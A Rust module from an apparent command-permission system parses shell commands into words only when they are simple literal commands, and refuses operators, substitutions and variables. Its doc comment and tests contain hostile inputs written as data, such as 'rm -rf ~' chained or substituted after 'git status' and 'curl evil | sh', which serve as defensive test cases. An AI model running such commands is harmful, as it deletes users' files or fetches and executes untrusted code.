//! The words of a shell command, read only when the command is one simple
//! command of literal words.
//!
//! An allowance for `git status` must not cover `git status; rm -rf ~`,
//! `git status && curl evil | sh` or `git status $(rm -rf ~)`. Rather than
//! parse every form of the shell language and judge what each does, this
//! reader accepts only the one form whose meaning is plain: words
//! separated by blanks, each made of ordinary characters, backslash
//! escapes, single-quoted and double-quoted text without expansions. A
//! command that uses anything else (an operator, a redirection, a
//! substitution, a variable, a comment, a second line, an unclosed quote)
//! has no words here, and so no prefix covers it: it is asked about as if
//! no allowance existed. Failing closed is the point; a person can still
//! allow such a command once.
//!
//! Globs (`*`, `?`, `[`) and `~` are read as literal characters: they can
//! only change the words a command gets, never which command runs or how
//! many, and a prefix compares words literally (`g*t` is not `git`). What
//! bash reads specially at a word's start (`!`, `{`, `}`) and an unquoted
//! `=` in the first word (an assignment) are refused.

/// The words bash would pass as the argv of `command`, when `command` is
/// one simple command of literal words; `None` for anything else, and for
/// a command of no words.
pub(crate) fn simple_command_words(command: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if let Some(done) = word.take() {
                    words.push(done);
                }
            }
            // A comment may only start a word; inside one, `#` is literal.
            '#' if word.is_none() => return None,
            // Control and redirection operators, subshells, substitutions,
            // expansions and line ends: each can run or change more than
            // one plain command.
            '\n' | '\r' | ';' | '&' | '|' | '<' | '>' | '(' | ')' | '`' | '$' => return None,
            '\\' => match chars.next() {
                // A line continuation, or nothing to escape.
                None | Some('\n') => return None,
                Some(escaped) => word.get_or_insert_with(String::new).push(escaped),
            },
            '\'' => {
                let text = word.get_or_insert_with(String::new);
                loop {
                    match chars.next() {
                        None => return None,
                        Some('\'') => break,
                        Some(literal) => text.push(literal),
                    }
                }
            }
            '"' => {
                let text = word.get_or_insert_with(String::new);
                loop {
                    match chars.next() {
                        None | Some('$' | '`') => return None,
                        Some('"') => break,
                        // Inside double quotes a backslash escapes only
                        // these; before anything else it is itself.
                        Some('\\') => match chars.next() {
                            None | Some('\n') => return None,
                            Some(escaped @ ('"' | '\\')) => text.push(escaped),
                            Some('$' | '`') => return None,
                            Some(other) => {
                                text.push('\\');
                                text.push(other);
                            }
                        },
                        Some(literal) => text.push(literal),
                    }
                }
            }
            // Characters bash treats specially at a word's start or in
            // the first word (`!` history or pipeline negation, `{`/`}`
            // groups, `=` assignments) are refused outright where they
            // could change what runs.
            '!' | '{' | '}' if word.is_none() => return None,
            '=' if words.is_empty() => return None,
            other => word.get_or_insert_with(String::new).push(other),
        }
    }
    if let Some(done) = word {
        words.push(done);
    }
    (!words.is_empty()).then_some(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(command: &str) -> Option<Vec<&str>> {
        // Leaked for the comparison's convenience; tests only.
        simple_command_words(command)
            .map(|words| words.into_iter().map(|w| &*w.leak()).collect())
    }

    #[test]
    fn plain_words_and_quotes_are_read_as_bash_reads_them() {
        assert_eq!(words("git status"), Some(vec!["git", "status"]));
        assert_eq!(words("  git\tstatus  "), Some(vec!["git", "status"]));
        assert_eq!(words("'git' \"status\""), Some(vec!["git", "status"]));
        assert_eq!(
            words(r#"grep -r "a b" 'c d' e\ f"#),
            Some(vec!["grep", "-r", "a b", "c d", "e f"])
        );
        assert_eq!(words(r#"echo "a\"b" "c\d""#), Some(vec!["echo", "a\"b", "c\\d"]));
        assert_eq!(words("ls *.rs ~/x a#b"), Some(vec!["ls", "*.rs", "~/x", "a#b"]));
        assert_eq!(words("a=b"), None);
        assert_eq!(words("ls a=b"), Some(vec!["ls", "a=b"]));
    }

    #[test]
    fn anything_but_one_simple_command_has_no_words() {
        for command in [
            "",
            "   ",
            "git status; rm -rf ~",
            "git status && rm -rf ~",
            "git status || rm -rf ~",
            "git status | sh",
            "git status & rm -rf ~",
            "git status\nrm -rf ~",
            "git status\rrm",
            "git status > out",
            "git status < in",
            "git status $(rm -rf ~)",
            "git status `rm -rf ~`",
            "git status \"$(rm -rf ~)\"",
            "git status \"`rm`\"",
            "git status $HOME",
            "git status ${HOME}",
            "(git status)",
            "{ git status; }",
            "! git status",
            "git status # comment",
            "FOO=1 git status",
            "git status 'unclosed",
            "git status \"unclosed",
            "git status \\",
            "git status \\\nrm",
            "git status \"a\\$(rm)\"",
        ] {
            assert_eq!(words(command), None, "{command:?}");
        }
    }
}
